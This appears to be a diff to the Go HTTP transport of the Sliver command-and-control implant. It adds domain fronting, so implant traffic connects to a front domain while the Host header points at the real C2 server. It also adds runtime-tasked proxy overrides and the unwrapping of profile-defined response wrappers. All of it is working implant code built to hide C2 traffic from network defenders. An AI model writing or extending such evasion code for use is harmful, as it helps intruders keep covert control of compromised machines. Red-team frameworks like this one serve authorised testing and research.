@@ -28,6 +28,7 @@ import (
 	"io"
 	"io/ioutil"
 	insecureRand "math/rand"
+	"net"
 	"net/http"
 	"net/url"
 	"strconv"
@@ -53,6 +54,10 @@ const (
 	userAgent         = "{{GenerateUserAgent}}"
 	nonceQueryArgs    = "abcdefghijklmnopqrstuvwxyz_"
 	acceptHeaderValue = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.9"
+
+	// The c2 profile's wrapper around the encoded data in responses
+	responsePrefix = `{{.HTTPC2ImplantConfig.ResponsePrefix}}`
+	responseSuffix = `{{.HTTPC2ImplantConfig.ResponseSuffix}}`
 )
 
 var (
@@ -72,11 +77,43 @@ type HTTPOptions struct {
 	DisableAcceptHeader  bool
 	DisableUpgradeHeader bool
 	HostHeader           string
+	FrontDomain          string
+	HTTP2                bool
+
+	ProxyConfig      string
+	ProxyPAC         string
+	ProxyUsername    string
+	ProxyPassword    string
+	AskProxyCreds    bool
+	DisableProxyAuth bool
+}
 
-	ProxyConfig   string
-	ProxyUsername string
-	ProxyPassword string
-	AskProxyCreds bool
+// ProxyOverride - Proxy settings tasked at runtime, these replace the ones
+// from the c2 url the next time we connect
+type ProxyOverride struct {
+	Config   string
+	PAC      string
+	Username string
+	Password string
+}
+
+var (
+	proxyOverride      *ProxyOverride
+	proxyOverrideMutex = &sync.RWMutex{}
+)
+
+// SetProxyOverride - Set the proxy override, nil goes back to the c2 url's settings
+func SetProxyOverride(override *ProxyOverride) {
+	proxyOverrideMutex.Lock()
+	defer proxyOverrideMutex.Unlock()
+	proxyOverride = override
+}
+
+// GetProxyOverride - Get the current proxy override, if any
+func GetProxyOverride() *ProxyOverride {
+	proxyOverrideMutex.RLock()
+	defer proxyOverrideMutex.RUnlock()
+	return proxyOverride
 }
 
 // ParseHTTPOptions - Parse c2 specific configuration options
@@ -101,8 +138,14 @@ func ParseHTTPOptions(c2URI *url.URL) *HTTPOptions {
 	if driverName == "" {
 		driverName = goHTTPDriver
 	}
+	// When fronting we connect to the front domain, and the Host header targets the real c2
+	frontDomain := c2URI.Query().Get("front-domain")
+	hostHeader := c2URI.Query().Get("host-header")
+	if frontDomain != "" && hostHeader == "" {
+		hostHeader = c2URI.Hostname()
+	}
 
-	return &HTTPOptions{
+	opts := &HTTPOptions{
 		Driver:               driverName,
 		NetTimeout:           netTimeout,
 		TlsTimeout:           tlsTimeout,
@@ -111,19 +154,35 @@ func ParseHTTPOptions(c2URI *url.URL) *HTTPOptions {
 		ForceHTTP:            c2URI.Query().Get("force-http") == "true",
 		DisableAcceptHeader:  c2URI.Query().Get("disable-accept-header") == "true",
 		DisableUpgradeHeader: c2URI.Query().Get("disable-upgrade-header") == "true",
-		HostHeader:           c2URI.Query().Get("host-header"),
-
-		ProxyConfig:   c2URI.Query().Get("proxy"),
-		ProxyUsername: c2URI.Query().Get("proxy-username"),
-		ProxyPassword: c2URI.Query().Get("proxy-password"),
-		AskProxyCreds: c2URI.Query().Get("ask-proxy-creds") == "true",
-	}
+		HostHeader:           hostHeader,
+		FrontDomain:          frontDomain,
+		HTTP2:                c2URI.Query().Get("http2") == "true",
+
+		ProxyConfig:      c2URI.Query().Get("proxy"),
+		ProxyUsername:    c2URI.Query().Get("proxy-username"),
+		ProxyPassword:    c2URI.Query().Get("proxy-password"),
+		AskProxyCreds:    c2URI.Query().Get("ask-proxy-creds") == "true",
+		DisableProxyAuth: c2URI.Query().Get("disable-proxy-auth") == "true",
+	}
+	if override := GetProxyOverride(); override != nil {
+		opts.ProxyConfig = override.Config
+		opts.ProxyPAC = override.PAC
+		opts.ProxyUsername = override.Username
+		opts.ProxyPassword = override.Password
+	}
+	return opts
 }
 
 // HTTPStartSession - Attempts to start a session with a given address
 func HTTPStartSession(address string, pathPrefix string, opts *HTTPOptions) (*SliverHTTPClient, error) {
 	var client *SliverHTTPClient
 	var err error
+	if opts.FrontDomain != "" {
+		address = frontAddress(address, opts.FrontDomain)
+		// {{if .Config.Debug}}
+		log.Printf("[http] fronting via %s (host %s)", address, opts.HostHeader)
+		// {{end}}
+	}
 	if !opts.ForceHTTP {
 		client = httpsClient(address, opts)
 		client.Options = opts
@@ -150,6 +209,15 @@ func HTTPStartSession(address string, pathPrefix string, opts *HTTPOptions) (*Sl
 	return client, nil
 }
 
+// frontAddress - Swap the host of an address for the front domain, keeping the port
+func frontAddress(address string, frontDomain string) string {
+	_, port, err := net.SplitHostPort(address)
+	if err != nil {
+		return frontDomain
+	}
+	return net.JoinHostPort(frontDomain, port)
+}
+
 // HTTPDriver - The interface to send/recv HTTP data
 type HTTPDriver interface {
 	Do(*http.Request) (*http.Response, error)
@@ -326,6 +394,12 @@ func (s *SliverHTTPClient) DoPoll(req *http.Request) (*http.Response, []byte, er
 	return resp, data, <-done
 }
 
+// unwrapResponse - Strip the c2 profile's wrapper from a response body
+func unwrapResponse(data []byte) []byte {
+	data = bytes.TrimPrefix(data, []byte(responsePrefix))
+	return bytes.TrimSuffix(data, []byte(responseSuffix))
+}
+
 // We do our own POST here because the server doesn't have the
 // session key yet.
 func (s *SliverHTTPClient) establishSessionID(sessionInit []byte) error {
@@ -373,7 +447,7 @@ func (s *SliverHTTPClient) establishSessionID(sessionInit []byte) error {
 		return err
 	}
 	defer resp.Body.Close()
-	data, err := encoder.Decode(respData)
+	data, err := encoder.Decode(unwrapResponse(respData))
 	if err != nil {
 		// {{if .Config.Debug}}
 		log.Printf("[http] response decoder failure: %s", err)
@@ -428,7 +502,7 @@ func (s *SliverHTTPClient) ReadEnvelope() (*pb.Envelope, error) {
 	if resp.StatusCode == http.StatusOK {
 		var body []byte
 		if 0 < len(rawRespData) {
-			body, err = encoder.Decode(rawRespData)
+			body, err = encoder.Decode(unwrapResponse(rawRespData))
 			if err != nil {
 				// {{if .Config.Debug}}
 				log.Printf("[http] Decoding failed %s", err)